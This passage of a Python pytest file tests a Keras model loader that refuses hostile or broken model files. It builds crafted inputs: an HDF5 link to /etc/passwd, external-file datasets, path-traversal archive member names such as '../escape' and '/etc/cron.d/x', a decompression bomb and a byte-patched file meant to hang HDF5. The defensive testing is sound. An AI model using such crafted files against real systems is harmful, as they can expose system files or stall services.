    "missing layer": (lambda group: group.parent.parent.pop("conv"), r"the weights of layer 'conv' are \[\]"),
    "dataset for a group": (
        lambda group: (weights := group.parent.parent).pop("conv") and weights.create_dataset("conv", data=1.0),
        r"the weights of layer 'conv' are \[\]",
    ),
}


@pytest.mark.parametrize("case", WRONG_WEIGHTS)
def test_wrong_weights_are_refused_with_their_reason(
    case: str, alter_weights: Callable[[Callable[[h5py.Group], object]], Path]
) -> None:
    change, message = WRONG_WEIGHTS[case]
    with pytest.raises(ModelRefusedError, match=message):
        load_model(alter_weights(change))


def test_weights_in_another_file_are_refused_though_they_would_fit(
    alter_weights: Callable[[Callable[[h5py.Group], object]], Path], tmp_path: Path
) -> None:
    secret = tmp_path / "secret"
    secret.write_bytes(np.arange(4, dtype="float32").tobytes())
    path = alter_weights(replace("bias", shape=(4,), dtype="float32", external=[(str(secret), 0, 16)]))
    with h5py.File(path) as file:
        np.testing.assert_array_equal(file["model_weights/conv/conv/bias"], np.arange(4), err_msg="the trap is live")
    with pytest.raises(ModelRefusedError, match="takes its values from elsewhere"):
        load_model(path)


def test_a_link_to_another_file_is_not_even_opened(
    alter_weights: Callable[[Callable[[h5py.Group], object]], Path], tmp_path: Path
) -> None:
    os.mkfifo(tmp_path / "pipe")  # whoever opens it waits for ever
    with pytest.raises(ModelRefusedError, match="is a link to elsewhere"):
        load_model(alter_weights(link(h5py.ExternalLink(str(tmp_path / "pipe"), "/x"))))


@pytest.mark.parametrize("value", [np.ones(3), ["{}"] * 9, h5py.Empty("S5"), h5py.Empty("f"), 7])
def test_a_config_that_is_not_one_string_is_refused(value: object, small: dict[str, Path], tmp_path: Path) -> None:
    path = Path(shutil.copy(small[".h5"], tmp_path / "m.h5"))
    with h5py.File(path, "r+") as file:
        file.attrs["model_config"] = value
    with pytest.raises(ModelRefusedError, match=r"model_config .*expected one string"):
        load_model(path)


@pytest.mark.parametrize("classes", [(1,), (100_000,), (2, 2), ()])
def test_an_absurd_number_of_classes_is_refused(classes: tuple[int, ...], tmp_path: Path) -> None:
    with h5py.File(tmp_path / "weights.h5", "w") as file:
        file.attrs["layer_names"] = [b"output"]
        file.create_dataset("output/output/bias:0", shape=classes, dtype="float32")
    with pytest.raises(ModelRefusedError, match="output's bias is"):
        load_model(tmp_path / "weights.h5", architecture="deepid")


def test_weights_in_a_keras_archive_are_checked_alike(small: dict[str, Path], tmp_path: Path) -> None:
    members = read_members(small[".keras"])
    buffer = io.BytesIO(members["model.weights.h5"])
    with h5py.File(buffer, "r+") as file:
        del file["layers/conv2d/vars/1"]
        file["layers/conv2d/vars/1"] = h5py.ExternalLink("/etc/passwd", "/x")
    path = write_members(tmp_path / "m.keras", members | {"model.weights.h5": buffer.getvalue()})
    with pytest.raises(ModelRefusedError, match="the weight bias of layer 'conv' is a link to elsewhere"):
        load_model(path)


# ── files that are wrong ──────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("suffix", [".h5", ".keras"])
@pytest.mark.parametrize("share", [0.01, 0.3, 0.7, 0.95, 0.999])
def test_a_truncated_file_is_refused(share: float, suffix: str, small: dict[str, Path], tmp_path: Path) -> None:
    content = small[suffix].read_bytes()
    path = tmp_path / f"cut{suffix}"
    path.write_bytes(content[: int(share * len(content))])
    with pytest.raises(ModelRefusedError, match="cut"):
        load_model(path)


@pytest.mark.parametrize("suffix", [".h5", ".keras"])
def test_a_damaged_file_is_loaded_or_refused_but_nothing_else(
    suffix: str, small: dict[str, Path], tmp_path: Path
) -> None:
    generator = np.random.default_rng(5)
    content = np.frombuffer(small[suffix].read_bytes(), np.uint8)
    refused = 0
    for _ in range(25):
        damaged = content.copy()
        where = generator.integers(0, len(content), 20)
        damaged[where] = generator.integers(0, 256, len(where))
        (tmp_path / "m").write_bytes(damaged.tobytes())
        try:
            load_model(tmp_path / "m")
        except ModelRefusedError:
            refused += 1
    assert refused > 10


def test_a_file_that_hangs_hdf5_is_given_up(tmp_path: Path) -> None:
    path = tmp_path / "hang.h5"
    with h5py.File(path, "w") as file:
        file.attrs["model_config"] = "{}" * 50
    content = bytearray(path.read_bytes())
    size = content.find(b"GCOL") + 24  # of the one object in the heap of strings; it wraps round to no step at all
    content[size : size + 8] = (2**64 - 16).to_bytes(8, "little")
    path.write_bytes(content)
    with path.open("rb") as stream, pytest.raises(ModelRefusedError, match="did not finish reading it in 3 s"):
        read_hdf5(stream, timeout_seconds=3)


@pytest.mark.parametrize("content", [b"", b"\x89PNG\r\n\x1a\n", b"hello", b"#!/bin/sh\n"])
def test_what_is_no_model_file_is_refused(content: bytes, tmp_path: Path) -> None:
    (tmp_path / "m.h5").write_bytes(content)
    with pytest.raises(ModelRefusedError, match=r"not a Keras model; expected an .h5 or .keras file"):
        load_model(tmp_path / "m.h5")


def test_folders_and_missing_files_are_refused(tmp_path: Path) -> None:
    with pytest.raises(ModelRefusedError, match="a folder; expected one file"):
        load_model(tmp_path)
    (tmp_path / "saved_model.pb").touch()
    with pytest.raises(ModelRefusedError, match=r"a SavedModel; expected one file.*save it as .h5"):
        load_model(tmp_path)
    with pytest.raises(ModelRefusedError, match="no such file"):
        load_model(tmp_path / "nothing.h5")


def test_a_pipe_is_refused_and_not_waited_for(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe.h5")
    with pytest.raises(ModelRefusedError, match="no such file"):
        load_model(tmp_path / "pipe.h5")


def test_a_file_of_absurd_size_is_refused_unread(tmp_path: Path) -> None:
    with (tmp_path / "m.h5").open("wb") as file:
        file.truncate(2**40)
    with pytest.raises(ModelRefusedError, match="1,099,511,627,776 bytes; expected at most"):
        load_model(tmp_path / "m.h5")


@pytest.mark.parametrize("version", ["2.15.0", None, 3])
def test_a_keras_archive_of_another_version_is_refused_with_the_way_out(
    version: object, small: dict[str, Path], tmp_path: Path
) -> None:
    metadata = json.dumps({"keras_version": version}).encode()
    path = write_members(tmp_path / "m.keras", read_members(small[".keras"]) | {"metadata.json": metadata})
    with pytest.raises(ModelRefusedError, match=r"expected 3: load it with .*tf_keras.* save it as .h5"):
        load_model(path)


@pytest.mark.parametrize("name", ["../escape", "/etc/cron.d/x", "assets/x", "data.pkl"])
def test_an_archive_with_other_members_is_refused(name: str, small: dict[str, Path], tmp_path: Path) -> None:
    path = write_members(tmp_path / "m.keras", read_members(small[".keras"]) | {name: b"x"})
    with pytest.raises(ModelRefusedError, match=f"holds .*{name}.*; expected exactly config.json"):
        load_model(path)
    assert [entry.name for entry in tmp_path.iterdir()] == ["m.keras"]


def test_an_archive_with_a_member_twice_or_missing_is_refused(small: dict[str, Path], tmp_path: Path) -> None:
    members = read_members(small[".keras"])
    path = write_members(tmp_path / "m.keras", members)
    with zipfile.ZipFile(path, "a") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile notices
        archive.writestr("config.json", "{}")
    with pytest.raises(ModelRefusedError, match=r"expected exactly config.json"):
        load_model(path)
    del members["model.weights.h5"]
    with pytest.raises(ModelRefusedError, match=r"expected exactly config.json"):
        load_model(write_members(path, members))


def test_a_decompression_bomb_is_refused_before_it_unfolds(small: dict[str, Path], tmp_path: Path) -> None:
    bomb = {"model.weights.h5": bytes(200 * 2**20)}
    path = write_members(tmp_path / "m.keras", read_members(small[".keras"]) | bomb, zipfile.ZIP_DEFLATED)
    assert path.stat().st_size < 2**20
    with pytest.raises(ModelRefusedError, match=r"model.weights.h5 unpacks .* to 209,715,200; expected at most"):
        load_model(path)


def test_an_archive_with_a_long_table_of_contents_is_refused_before_it_is_read(tmp_path: Path) -> None:
    path = write_members(tmp_path / "m.keras", {f"member{index}": b"" for index in range(1000)})
    with pytest.raises(ModelRefusedError, match="table of contents is missing, or too long"):
        load_model(path)


def test_a_compressed_honest_archive_loads(small: dict[str, Path], tmp_path: Path) -> None:
    path = write_members(tmp_path / "m.keras", read_members(small[".keras"]), zipfile.ZIP_DEFLATED)
    np.testing.assert_array_equal(predictions(load_model(path)), predictions(load_model(small[".keras"])))
